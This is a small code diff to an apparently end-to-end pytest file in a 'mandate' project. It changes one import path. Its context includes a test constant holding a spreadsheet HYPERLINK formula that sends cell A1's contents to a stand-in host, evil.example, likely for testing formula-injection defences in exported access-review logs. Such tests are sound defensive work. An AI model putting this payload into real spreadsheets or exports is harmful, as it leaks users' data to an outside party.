@@ -15,7 +15,7 @@ from typing import Any
 
 import pytest
 
-from projections.history.access_review import logged_events
+from mandate.projections.history.access_review import logged_events
 from tests.e2e.conftest import Headers, MandateClient
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
